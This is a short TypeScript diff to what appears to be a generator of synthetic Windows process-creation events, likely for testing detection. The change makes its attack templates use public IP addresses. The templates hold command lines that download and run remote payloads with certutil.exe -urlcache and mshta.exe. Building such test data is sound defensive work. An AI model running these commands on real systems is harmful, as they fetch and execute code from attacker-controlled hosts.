@@ -1,7 +1,7 @@
 import type { EventKind } from "./events.ts";
 import { processCreation } from "./host-events.ts";
 import type { Random } from "./random.ts";
-import { account, address, guid, type Program, program, user } from "./windows-parts.ts";
+import { account, guid, type Program, program, publicAddress, user } from "./windows-parts.ts";
 
 const system = "C:\\Windows\\System32";
 
@@ -28,7 +28,7 @@ const attacks: readonly Program[] = [
   attack(
     `${system}\\certutil.exe`,
     "CertUtil.exe",
-    (random) => `certutil.exe -urlcache -split -f http://${address(random)}/a.exe C:\\Users\\Public\\a.exe`,
+    (random) => `certutil.exe -urlcache -split -f http://${publicAddress(random)}/a.exe C:\\Users\\Public\\a.exe`,
   ),
   attack(
     `${system}\\rundll32.exe`,
@@ -47,7 +47,7 @@ const attacks: readonly Program[] = [
   attack(
     `${system}\\mshta.exe`,
     "Microsoft (R) HTML Application host",
-    (random) => `mshta.exe http://${address(random)}/x.hta`,
+    (random) => `mshta.exe http://${publicAddress(random)}/x.hta`,
   ),
 ];
 
